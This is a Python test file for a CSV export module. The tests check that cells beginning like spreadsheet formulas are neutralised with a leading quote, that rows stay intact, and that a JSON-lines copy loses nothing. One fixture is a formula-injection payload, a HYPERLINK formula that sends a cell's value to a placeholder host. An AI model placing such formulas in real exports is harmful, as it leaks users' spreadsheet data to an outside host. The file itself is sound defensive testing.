"""R35: tables for spreadsheets cannot act, and have a twin in which nothing is changed."""

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gadfly.shared import csvout

FORMULA = '=HYPERLINK("http://bread.example/?"&A1)'
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u207a\u207b\u2212"
BLANKS = " \t\r\n\v\f\x00\xa0\u2003\u200b\u200e\u2028\u202e\u2060\u3000\ufeff"

formulas = st.builds(
    lambda blanks, sign, rest: blanks + sign + rest,
    st.text(st.sampled_from(BLANKS), max_size=4),
    st.sampled_from(SIGNS),
    st.text(max_size=8),
)
numbers = st.integers() | st.floats(allow_nan=False, allow_infinity=False)
cells = st.none() | st.booleans() | numbers | st.text(max_size=8) | formulas


def parsed(pieces) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(pieces).decode(), newline=""), strict=True))


@given(formulas | st.text(st.sampled_from("\t\r\n"), min_size=1).map(lambda begin: begin + "bread"))
def test_r35_text_that_begins_like_a_formula_gets_a_leading_quote(text):
    assert csvout.cell(text) == "'" + text


@given(st.text())
@example(FORMULA)
def test_r35_no_cell_begins_like_a_formula(text):
    assert not csvout.acts(csvout.cell(text))


@pytest.mark.parametrize("text", ["", "bread", "1 + 1 = 2", "'=1", "a-b", "mail@bread.example", "–"])
def test_r35_other_text_is_left_alone(text):
    assert csvout.cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (True, "True"),
        (0, "0"),
        (-2, "-2"),
        (-2.5, "-2.5"),
        (float("-inf"), "'-inf"),
        (date(2026, 1, 31), "2026-01-31"),
        (datetime(2026, 1, 31, 12, tzinfo=UTC), "2026-01-31T12:00:00+00:00"),
    ],
)
def test_r35_numbers_and_times_stay_what_they_are(value, written):
    assert csvout.cell(value) == written


@given(st.lists(st.tuples(cells, cells), max_size=5))
def test_r35_a_strict_reader_finds_the_same_rows_and_columns(rows):
    head, *body = parsed(csvout.csv_pieces(["dish", FORMULA], rows))
    assert head == ["dish", "'" + FORMULA]
    assert body == [[csvout.cell(value) for value in row] for row in rows]


@given(st.lists(st.tuples(cells, cells), max_size=5))
def test_r35_the_twin_loses_nothing(rows):
    lines = b"".join(csvout.twin_pieces(["dish", FORMULA], rows)).decode().split("\n")
    assert [json.loads(line) for line in lines[:-1]] == [{"dish": a, FORMULA: b} for a, b in rows]
    assert lines[-1] == ""


def test_the_twin_writes_times_as_text():
    written = b"".join(csvout.twin_pieces(["at"], [[datetime(2026, 1, 31, tzinfo=UTC)]]))
    assert json.loads(written) == {"at": "2026-01-31T00:00:00+00:00"}


def test_long_tables_come_in_pieces():
    rows = ([number] for number in range(csvout.ROWS * 3))
    assert len(list(csvout.twin_pieces(["loaf"], rows))) == 3


@pytest.mark.parametrize("write", [csvout.csv_pieces, csvout.twin_pieces])
def test_a_row_of_another_length_is_refused(write):
    with pytest.raises(ValueError, match="argument"):
        list(write(["dish", "salt"], [["soup"]]))


def test_the_twin_refuses_two_columns_of_one_name():
    with pytest.raises(ValueError, match="same name"):
        list(csvout.twin_pieces(["dish", "dish"], []))


def test_the_twin_refuses_what_json_cannot_say():
    with pytest.raises(ValueError, match="JSON"):
        list(csvout.twin_pieces(["salt"], [[float("nan")]]))
